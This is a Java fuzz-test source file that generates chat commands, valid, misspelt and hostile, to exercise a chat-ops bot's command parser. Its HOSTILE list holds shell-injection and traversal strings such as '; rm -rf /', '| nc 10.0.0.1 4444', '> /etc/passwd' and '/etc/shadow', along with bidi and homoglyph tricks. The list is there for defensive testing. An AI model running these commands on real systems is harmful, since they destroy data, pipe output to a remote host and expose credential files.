package io.opsbot.bot.fuzz;

import io.opsbot.bot.command.CommandParser;
import io.opsbot.bot.command.Flag;
import io.opsbot.bot.command.KnownNames;
import io.opsbot.bot.command.Param;
import io.opsbot.bot.command.Slot;
import io.opsbot.bot.command.VerbSpec;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import net.jqwik.api.EdgeCases;
import net.jqwik.api.ExhaustiveGenerator;
import net.jqwik.api.RandomGenerator;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Chat input for fuzzing, made from the grammar itself so the fuzzer gets deep: a verb (often right, sometimes
 * misspelt), then its own arguments and flags in order or shuffled, each value valid, nearly valid or hostile
 * (shell syntax, path traversal, Unicode look-alikes, bidi controls, NUL, line breaks, Slack markup, huge words).
 */
public final class ChatInputs {

    /** What an attacker or a clumsy paste puts in a word. */
    public static final List<String> HOSTILE = List.of(
            "$(id)", "`id`", "; rm -rf /", "&& reboot", "| nc 10.0.0.1 4444", "> /etc/passwd", "$HOME", "${IFS}",
            "'", "\"", "\\", "'\\''", "\\\"", "../../etc/passwd", "..", "/etc/shadow", "%2e%2e%2f", "..\\..\\win.ini",
            "nodeаpp" /* Cyrillic а */, "ｎｏｄｅａｐｐ", "nodeapp\u202E", "\u202Enodeapp", "\u2066node2\u2069",
            "\u200Fmongo", "\u200Dnginx", "node\u00AD1", "\u0000", "nodeapp\u0000", "\r", "\n", "\r\nstatus", "\u0085",
            "\u2028", "\u001B[2J", "\u0007", "&amp;", "&lt;", "&gt;", "<!channel>", "<!here>", "<@U0BOT>", "<@U0BOT|opsbot>",
            "<#C0123|ops>", "<http://evil.invalid|nodeapp>", "*bold*", "```", "%00", "%0a", "\uD800", "\uDFFF", "🙂",
            "\uFEFF", "\u200B", "—plan", "–grep", "-", "--", "=", "@", "*", "?", "[a-z]", "{a,b}", "~", "#", "!", "\t",
            "\u00A0", "\u3000");

    private final List<VerbSpec> verbs;
    private final KnownNames names;

    public ChatInputs(CommandParser parser) {
        this.verbs = parser.grammar().verbs();
        this.names = parser.names();
    }

    /** One chat line, mostly starting with a real verb. */
    public Arbitrary<String> line() {
        return frequencyOf(
                Tuple.of(40, grammarLine()),
                Tuple.of(8, soup()),
                Tuple.of(3, Arbitraries.strings().all().ofMaxLength(40)),
                Tuple.of(1, huge()));
    }

    /** A command line as words, the way a shell hands them to {@code opsbot exec}. */
    public Arbitrary<List<String>> execWords() {
        Arbitrary<String> word = frequencyOf(Tuple.of(6, anyWord()),
                Tuple.of(2, Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(12)),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(6)));
        return Combinators.combine(verb(), word.list().ofMaxSize(6)).as((v, rest) -> {
            List<String> words = new ArrayList<>(List.of(v.split(" ")));
            words.addAll(rest);
            return words;
        });
    }

    /** A value a button carries (an alert's subject, an operation id, a confirmation id). */
    public Arbitrary<String> buttonValue() {
        return frequencyOf(
                Tuple.of(4, Arbitraries.of(allNames())),
                Tuple.of(2, Arbitraries.strings().withChars("0123456789abcdef").ofLength(6).map(h -> "op-" + h)),
                Tuple.of(4, Combinators.combine(anyWord(), anyWord().list().ofMaxSize(3))
                        .as((a, rest) -> a + (rest.isEmpty() ? "" : " " + String.join(" ", rest)))),
                Tuple.of(1, huge()));
    }

    /** Anything from a megabyte-free range of long text: over the parser's limit, up to 100 KB. */
    public static Arbitrary<String> huge() {
        return Combinators.combine(Arbitraries.of("logs nodeapp --grep ", "status ", "", "scale nodeapp "),
                Arbitraries.of("A", "$(id)", "é", "\u202E", "../", "\u0000", "nodeapp "),
                Arbitraries.of(1_001, 1_200, 4_000, 20_000, 100_000))
                .as((head, unit, length) -> head + unit.repeat((length - head.length()) / unit.length() + 1));
    }

    private Arbitrary<String> verb() {
        List<String> words = new ArrayList<>();
        for (VerbSpec spec : verbs) {
            words.add(spec.name());
            words.add(spec.name().toUpperCase(Locale.ROOT));
        }
        words.addAll(List.of("sacle", "deplyo", "stauts", "who", "what", "help", "cancel", "/ops", "/ops status",
                "<@U0BOT> status", "@opsbot logs"));
        return Arbitraries.of(words);
    }

    /** A verb, then its own parameters and flags (values valid, near misses or hostile), sometimes shuffled. */
    private Arbitrary<String> grammarLine() {
        List<Arbitrary<String>> perVerb = new ArrayList<>();
        for (VerbSpec spec : verbs) {
            List<Arbitrary<String>> parts = new ArrayList<>();
            for (Param param : spec.params()) {
                parts.add(keyed(value(param.slot())).injectNull(param.optional() ? 0.3 : 0.05));
            }
            for (Flag flag : spec.flags()) {
                Arbitrary<String> given = flag.value()
                        .map(slot -> Combinators.combine(Arbitraries.of(" ", "=", " "), value(slot).injectNull(0.1))
                                .as((sep, v) -> "--" + flag.name() + (v == null ? "" : sep + v)))
                        .orElse(Arbitraries.of("--" + flag.name(), "--" + flag.name() + "=yes", "—" + flag.name()));
                parts.add(keyed(given).injectNull(0.6));
            }
            parts.add(keyed(anyWord()).injectNull(0.85));
            Arbitrary<String> verbWord = Arbitraries.of(spec.name(), spec.name(), spec.name().toUpperCase(Locale.ROOT),
                    "/ops " + spec.name(), "<@U0BOT> " + spec.name());
            Arbitrary<List<String>> rest = parts.isEmpty() ? Arbitraries.just(List.of())
                    : Combinators.combine(parts).as(words -> words);
            perVerb.add(Combinators.combine(verbWord, rest, Arbitraries.integers().between(0, 9),
                    Arbitraries.of(" ", " ", " ", "  ", "\t", "\u00A0")).as((v, words, shuffle, space) -> {
                        List<String> given = new ArrayList<>();
                        for (String w : words) {
                            if (w != null) {
                                given.add(w);
                            }
                        }
                        if (shuffle == 0) {
                            java.util.Collections.reverse(given);
                        } else if (shuffle == 1 && given.size() > 1) {
                            given.add(given.remove(0));
                        }
                        StringBuilder out = new StringBuilder(v);
                        for (String w : given) {
                            out.append(space).append(w);
                        }
                        return out.toString();
                    }));
        }
        return Arbitraries.oneOf(perVerb.stream().map(ChatInputs::keyed).toList());
    }

    /** Any word: a verb, a flag, a name, a number, a hostile fragment, or junk, possibly glued together. */
    private Arbitrary<String> soup() {
        return Combinators.combine(verb(), anyWord().list().ofMaxSize(7)).as((v, words) -> {
            StringBuilder out = new StringBuilder(v);
            words.forEach(w -> out.append(' ').append(w));
            return out.toString();
        });
    }

    private Arbitrary<String> anyWord() {
        List<String> flags = new ArrayList<>();
        verbs.forEach(v -> v.flags().forEach(f -> flags.add("--" + f.name())));
        flags.addAll(List.of("--help", "-h", "--x", "--plan=1", "--lines=", "--since=15m"));
        Arbitrary<String> single = frequencyOf(
                Tuple.of(3, Arbitraries.of(flags)),
                Tuple.of(3, Arbitraries.of(allNames())),
                Tuple.of(4, Arbitraries.of(HOSTILE)),
                Tuple.of(2, Arbitraries.of("0", "3", "-1", "1000", "1001", "007", "+2", "99999999999999999999", "2.5",
                        "15m", "7d", "8d", "0s", "1h30m", "op-7f3a2c", "1.4.2", "latest", "2016-03-01T12:00:00.000Z")),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(6)));
        return frequencyOf(Tuple.of(8, single),
                Tuple.of(1, Combinators.combine(single, single).as(String::concat)),
                Tuple.of(1, single.map(w -> "\"" + w + "\"")),
                Tuple.of(1, single.map(w -> "'" + w + "'")));
    }

    /** A value for a slot: valid most often, so the words after it are read too. */
    private Arbitrary<String> value(Slot slot) {
        Arbitrary<String> valid = switch (slot.kind()) {
            case APP -> Arbitraries.of(List.copyOf(names.apps()));
            case NODE -> Arbitraries.of(List.copyOf(names.nodes()));
            case APP_OR_NODE, LOG_TARGET -> Arbitraries.of(allNames());
            case NUMBER -> Arbitraries.longs().between(slot.min() - 2, slot.max() + 2).map(Object::toString);
            case VERSION -> Arbitraries.of("1.4.2", "v2", "latest", "2016-03-01T12:00:00.000Z", "1.0.0-rc1");
            case OPERATION_ID -> Arbitraries.strings().withChars("0123456789abcdef").ofLength(6).map(h -> "op-" + h);
            case COMMAND -> Arbitraries.of(verbs).map(VerbSpec::name);
            case DURATION -> Arbitraries.of("30s", "15m", "2h", "1d", "7d", "8d", "0s", "90m");
            case TEXT -> Arbitraries.strings().withCharRange(' ', '~').ofMinLength(1).ofMaxLength(30)
                    .map(t -> "\"" + t.replace("\\", "\\\\").replace("\"", "\\\"") + "\"");
        };
        return frequencyOf(Tuple.of(6, valid), Tuple.of(3, anyWordLite()));
    }

    private Arbitrary<String> anyWordLite() {
        return frequencyOf(Tuple.of(3, Arbitraries.of(HOSTILE)),
                Tuple.of(2, Combinators.combine(Arbitraries.of(allNames()), Arbitraries.of(HOSTILE)).as(String::concat)),
                Tuple.of(1, Arbitraries.strings().all().ofMaxLength(6)));
    }

    /**
     * jqwik picks among choices ({@code frequencyOf}, {@code oneOf}, {@code injectNull}) by a flat map, which looks the
     * picked arbitrary's generator up in a cache keyed by the arbitrary: its hash and equality walk the whole tree of
     * combinators, for every value. The grammar's trees are deep, so that lookup took a third of a fuzz run's time
     * (JFR, 2026-11-26). Each choice goes through this wrapper, whose key is its identity: the same values, the same
     * shrinking and edge cases, one cache entry per wrapper.
     */
    static <T> Arbitrary<T> keyed(Arbitrary<T> arbitrary) {
        return new Arbitrary<>() {
            @Override
            public RandomGenerator<T> generator(int genSize) {
                return arbitrary.generator(genSize);
            }

            @Override
            public Optional<ExhaustiveGenerator<T>> exhaustive(long maxNumberOfSamples) {
                return arbitrary.exhaustive(maxNumberOfSamples);
            }

            @Override
            public EdgeCases<T> edgeCases(int maxEdgeCases) {
                return arbitrary.edgeCases(maxEdgeCases);
            }
        };
    }

    /** {@link Arbitraries#frequencyOf} with each choice {@link #keyed}. */
    @SafeVarargs
    @SuppressWarnings("unchecked")
    private static <T> Arbitrary<T> frequencyOf(Tuple.Tuple2<Integer, ? extends Arbitrary<? extends T>>... choices) {
        List<Tuple.Tuple2<Integer, Arbitrary<T>>> keyed = new ArrayList<>();
        for (Tuple.Tuple2<Integer, ? extends Arbitrary<? extends T>> choice : choices) {
            keyed.add(Tuple.of(choice.get1(), keyed((Arbitrary<T>) choice.get2())));
        }
        return Arbitraries.frequencyOf(keyed);
    }

    private List<String> allNames() {
        List<String> all = new ArrayList<>(names.apps());
        all.addAll(names.nodes());
        all.addAll(names.services());
        for (String service : names.services()) {
            all.add(service + "@" + names.nodes().iterator().next());
        }
        all.addAll(List.of("nodap", "/nodeapp", "NodeApp", "docker@", "@node2", "nodeapp@node1"));
        return all;
    }
}
